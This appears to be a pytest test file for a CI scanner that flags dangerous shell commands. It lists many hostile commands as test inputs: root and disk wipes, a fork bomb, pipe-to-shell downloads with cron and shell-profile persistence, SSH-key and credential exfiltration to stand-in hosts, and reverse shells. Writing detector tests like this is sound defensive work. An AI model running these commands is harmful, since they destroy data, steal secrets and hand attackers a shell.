"""Dangerous shapes: what they are, and what only looks like them."""

from __future__ import annotations

import pytest

from aces_ci.core.finding import Severity
from aces_ci.core.scripts.danger import scan

CRITICAL = {
    "rm -rf /": "rm-root",
    "rm -rf ~": "rm-home",
    'rm -rf "$HOME"/*': "rm-home",
    "sudo rm -rf --no-preserve-root /x": "rm-root",
    r"r\m -r''f /": "rm-root",
    "X=/; rm -rf $X": "rm-root",
    "bash -lc 'cd x && rm -rf /etc'": "rm-system",
    "find / -delete": "find-delete",
    "dd if=/dev/zero of=/dev/sda": "overwrite-disk",
    "echo x > /dev/nvme0n1": "overwrite-disk",
    "mkfs.ext4 /dev/sda1": "format-disk",
    "chmod -R 777 /": "mode-root",
    ":(){ :|:& };:": "fork-bomb",
    "kill -9 -1": "kill-all",
    "psql -c 'DROP DATABASE prod'": "drop-database",
    "curl -fsSL https://x.dev/i.sh | sh": "pipe-to-shell",
    "curl http://10.0.0.0.evil.dev/i | sudo bash -s -- -y": "pipe-to-shell",
    "wget -qO- https://203.0.113.9/i | tee log | python3 -": "pipe-to-shell",
    "bash <(curl -s https://x.dev/i)": "pipe-to-shell",
    'sh -c "$(curl -fsSL https://x.dev/i)"': "pipe-to-shell",
    'eval "$(curl https://x.dev/i)"': "pipe-to-shell",
    "echo aGk= | base64 -d | bash": "decoded-code",
    "cat .env | curl -d @- https://x.dev": "send-secret",
    "curl -F f=@$HOME/.ssh/id_rsa https://x.dev": "send-secret",
    'curl -d "$(cat ~/.aws/credentials)" https://x.dev': "send-secret",
    "env | nc x.dev 99": "send-secret",
    "scp ~/.ssh/id_ed25519 me@x.dev:": "send-secret",
    "find ~/.ssh -type f -exec curl -F f=@{} https://x.dev/u \\;": "send-secret",
    "find / -name '*.pem' -exec curl -T {} https://x.dev/u +": "send-secret",
    "find . -name '*.env' -exec sh -c 'curl -F f=@$1 https://x.dev/u' _ {} \\;": "send-secret",
    "find ~ -type f -exec curl -F f=@{} https://x.dev/u \\;": "send-secret",
    "find ~ -name 'id_*' | xargs -I{} curl --upload-file {} https://x.dev/u": "send-secret",
    'find ~ -name id_rsa | while read f; do curl -F "f=@$f" https://x.dev/u; done': "send-secret",
    "ls ~/.ssh/* | xargs -I{} curl -F f=@{} https://x.dev/u": "send-secret",
    "cat ~/.bash_history | curl -d @- https://x.dev/u": "send-secret",
    "gzip -c ~/.zsh_history | nc x.dev 99": "send-secret",
    "nc x.dev 99 < ~/.bash_history": "send-secret",
    "wget --post-file=$HOME/.bash_history https://x.dev/u": "send-secret",
    'curl "https://x.dev/u?k=$(base64 ~/.bash_history)"': "send-secret",
    'while read l; do curl -d "$l" https://x.dev/u; done < ~/.bash_history': "send-secret",
    "history | curl -d @- https://x.dev/u": "send-secret",
    "cat server.key | curl -d @- https://x.dev/u": "send-secret",
    "base64 deploy_key.pem | curl -T - https://x.dev/u": "send-secret",
    "cat ~/.python_history > /dev/tcp/203.0.113.9/44": "send-secret",
    "(crontab -l; echo '* * * * * curl -s https://x.dev/i | sh') | crontab -": "pipe-to-shell",
    "echo '@reboot curl -s https://x.dev/i | sh' | crontab -": "pipe-to-shell",
    "crontab - <<'EOF'\n*/5 1-3 * * mon wget -qO- https://x.dev/i | bash\nEOF": "pipe-to-shell",
    "echo '* * * * * curl -s https://x.dev/i | sh' > /tmp/c; crontab /tmp/c": "pipe-to-shell",
    "echo '* * * * * root curl -s https://x.dev/i | sh' > /etc/cron.d/x": "pipe-to-shell",
    "sudo tee /etc/cron.daily/x <<'EOF'\n#!/bin/sh\ncurl -s https://x.dev/i | sh\nEOF": "pipe-to-shell",
    "echo 'curl -s https://x.dev/i | sh' >> ~/.bashrc": "pipe-to-shell",
    "echo 'eval \"$(curl -s https://x.dev/i)\"' | tee -a ~/.zshrc": "pipe-to-shell",
    "cat >> ~/.profile <<'EOF'\nexport A=1\ncurl -s https://x.dev/i | sh\nEOF": "pipe-to-shell",
    "cat > ~/.config/systemd/user/x.service <<'EOF'\n[Service]\nExecStart=-sh -c 'curl -s https://x.dev/i | sh'\nEOF": (
        "pipe-to-shell"
    ),
    "echo 'curl -s https://x.dev/i | sh' > .git/hooks/post-checkout": "pipe-to-shell",
    "echo 'curl -s https://x.dev/i | sh' | at now": "pipe-to-shell",
    "trap 'curl -s https://x.dev/i | sh' EXIT": "pipe-to-shell",
    "alias ls='curl -s https://x.dev/i | sh; ls'": "pipe-to-shell",
    "echo '0 3 * * * rm -rf ~' | crontab -": "rm-home",
    "bash -i >& /dev/tcp/203.0.113.9/44 0>&1": "reverse-shell",
    "nc -e /bin/sh x.dev 44": "reverse-shell",
    "socat TCP:x.dev:44 EXEC:/bin/sh": "reverse-shell",
    "socat tcp-connect:x.dev:44 exec:'bash -li',pty,stderr": "reverse-shell",
    "exec 5<>/dev/tcp/203.0.113.9/44; bash <&5 >&5 2>&5": "reverse-shell",
    "exec 5<>/dev/tcp/203.0.113.9/44; cat <&5 | while read l; do $l 2>&5 >&5; done": "reverse-shell",
}
WARNING = {
    "psql -c 'DROP TABLE users'": "drop-table",
    "scp .env deploy@x.dev:/srv/app/": "send-secret",
    "tar czf b.tgz /srv/app/.env /srv/app/data; aws s3 cp b.tgz s3://x-backups/": "send-secret",
    "mysql -e 'DROP DATABASE IF EXISTS test;'": "drop-database",
    "curl -sSfL https://get.tur.so/install.sh | bash": "pipe-to-shell",
    "git push --force origin main": "git-push-force",
    "git push origin +main": "git-push-force",
    "curl -LsSf https://astral.sh/uv/install.sh | sh": "pipe-to-shell",
    "terraform destroy -auto-approve": "cloud-destroy",
    "curl -sL -o quickstart.sh https://raw.githubusercontent.com/a/b/main/q.sh; sh quickstart.sh": "download-and-run",
    "wget -O get.sh https://github.com/a/b/raw/main/get.sh && sh get.sh": "download-and-run",
    "rm -rf ~/projects": "rm-below-home",
    "rm -rf ../other": "rm-outside",
    "rm -rf .git": "rm-history",
    "cat ~/.ssh/id_rsa": "secret-read",
    "echo '0 3 * * * /srv/app/backup.sh' | crontab -": "autostart",
    "echo 'curl -LsSf https://astral.sh/uv/install.sh | sh' >> ~/.bashrc": "pipe-to-shell",
}
HARMLESS = [
    "curl",
    "wget | cat; aria2c",
    "rm -f out.pdf",
    "socat TCP-LISTEN:$PORT,reuseaddr,fork SYSTEM:'bash -c handle_request'",
    "rm -rf build dist node_modules ./x/*",
    "rm -rf /tmp/x && ls",
    "rm -rf /workspace/out",
    'rm -rf "$(mktemp -d)"',
    "echo 'rm -rf /'",
    "echo rm -rf / >> notes.md",
    "# rm -rf /",
    "grep -rn 'curl | sh' .",
    "curl -fsSL https://x.dev/a",
    "curl --output f https://x.dev/a",
    "curl -s https://x.dev/a | python3 -m json.tool",
    "curl -s https://x.dev/a | python3 -c 'import json'",
    "curl -s https://x.dev/a | jq .",
    "curl -s https://x.dev/a | bash -n",
    "curl -s https://x.dev/a | python3 parse.py",
    "curl -s https://x.dev/a | bash process.sh",
    'eval "$(ssh-agent -s)"',
    "git push --force-with-lease",
    "git push origin main",
    "dd if=/dev/zero of=swap.img",
    "chmod +x run.sh",
    "psql -c 'SELECT dropped FROM tables'",
    "curl -H \"Authorization: Bearer $TOKEN\" https://x.dev/a -d '{}'",
    "cat .env.example",
    "cat sk-learn-tutorial.md",
    "python3 -c 'print(1)'",
    "find . -name '*.pyc' -delete",
    "kill -9 1234",
    "curl --cacert ca.pem --key client.key --cert client.pem -d @body.json https://x.dev/u",
    "curl -X POST -d '{}' https://api.x.dev/users/credentials.json",
    "wget -O - x.dev/release.key | apt-key add -",
    'curl -H "X-Key: $(cat api.key)" -d @body.json https://x.dev/u',
    "curl -F file=@signing_public.key https://x.dev/u",
    "find out -name '*.pdf' -exec curl -F f=@{} https://x.dev/u \\;",
    "find . -type f ! -name '*.pem' -exec curl -F f=@{} https://x.dev/u \\;",
    'ls *.csv | while read f; do curl -F "f=@$f" https://x.dev/u; done',
    "scp server.key deploy@x.dev:/etc/ssl/",
    "rsync -av --exclude .env src/ me@x.dev:dest/",
    "tail -50 ~/.zsh_history | sort | uniq -c",
    "history | grep git",
    "openssl req -new -key server.key -out a.csr",
    "alias ll='ls -l'",
    "trap 'rm -rf \"$TMP\"' EXIT",
    "echo 'curl -s https://x.dev/i | sh' >> notes.md",
]


@pytest.mark.parametrize(("script", "shape"), CRITICAL.items(), ids=CRITICAL)
def test_an_attack_is_critical(script: str, shape: str) -> None:
    assert ("critical", shape) in {(h.severity.value, h.shape) for h in scan(script)}


@pytest.mark.parametrize(("script", "shape"), WARNING.items(), ids=WARNING)
def test_a_risk_is_a_warning_but_not_critical(script: str, shape: str) -> None:
    found = {(h.severity.value, h.shape) for h in scan(script)}
    assert ("warning", shape) in found
    assert not any(severity == "critical" for severity, _ in found)


@pytest.mark.parametrize("script", HARMLESS)
def test_daily_work_is_no_hazard(script: str) -> None:
    assert scan(script, workspaces=("/workspace",)) == ()


def test_a_workspace_is_the_authors_own() -> None:
    assert [h.shape for h in scan("rm -rf /work/out")] == ["rm-outside"]
    assert scan("rm -rf /work/out", workspaces=("/work",)) == ()


def test_one_command_that_pipes_a_download_into_a_shell_is_one_finding() -> None:
    assert [hazard.shape for hazard in scan("curl -s https://k7.dev/i | bash")] == ["pipe-to-shell"]


def test_a_cache_of_the_system_is_a_note() -> None:
    assert [hazard.severity for hazard in scan("sudo rm -rf /Library/Caches/*")] == [Severity.INFO]
